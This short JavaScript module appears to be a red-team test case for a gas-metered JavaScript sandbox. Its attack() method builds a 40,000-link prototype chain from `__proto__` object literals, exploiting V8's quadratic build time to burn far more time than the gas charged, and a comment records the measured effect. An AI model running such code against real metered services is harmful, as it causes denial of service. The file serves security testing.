// Threat: object literals with `__proto__:` build a prototype chain of any
// length (Object.create and setPrototypeOf refuse more than 128 links); V8
// builds a chain of n such literals in time quadratic in n, and walks it on
// every missed or indexed lookup (red team round 35: 40,000 links, 6.9 s
// for 400,000 gas).
class PrototypeChainOfLiterals {
  init() {}

  attack() {
    let chain = null;
    for (let i = 0; i < 40000; i++) chain = { __proto__: chain, i };
    return chain.i;
  }
}

module.exports = PrototypeChainOfLiterals;
